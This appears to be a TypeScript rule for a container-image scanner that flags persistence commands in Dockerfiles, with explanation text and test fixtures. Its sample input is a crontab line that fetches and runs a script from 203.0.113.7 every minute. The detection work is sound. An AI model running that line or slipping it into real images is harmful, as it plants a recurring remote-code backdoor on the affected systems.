import { categoryRule, fixturePrediction } from './kit';

const SAMPLE = "echo '* * * * * curl -s http://203.0.113.7/p | sh' | crontab -";

/** The model finds a command that looks like installing persistence. */
export const persistence = categoryRule(
  { category: 'persistence', phrase: 'looks like installing persistence', attack: 'T1053' },
  {
    id: 'model/persistence',
    title: 'Suspicious command: persistence',
    compliance: ['MITRE ATT&CK T1053 / T1543 / T1546 (scheduled task, system service, event-triggered execution)', 'CWE-506'],
    fixable: false,
    explanation: {
      what: 'A command the model scores as making something run again later: crontab entries, systemd units enabled, `~/.bashrc` or `/etc/profile` hooks, `/etc/rc.local`, added SSH keys.',
      why: 'Containers are meant to be immutable and short-lived; persistence mechanisms inside images are how a foothold survives restarts and reaches every container started from the image.',
      fix: 'Remove the command. Scheduled work belongs in a Kubernetes CronJob or the orchestrator, not inside the image.',
    },
    fixtures: [
      { text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`, expect: [SAMPLE.slice(0, 12)], predictions: { commands: fixturePrediction(SAMPLE, 'persistence', 'crontab -') } },
      { text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`, expect: [], predictions: { commands: fixturePrediction(SAMPLE, 'persistence', 'crontab -', 0.3) }, note: 'below the threshold' },
      { text: `FROM alpine:3.22\nRUN ${SAMPLE}\n`, expect: [], note: 'no model predictions: rules only' },
    ],
  },
);
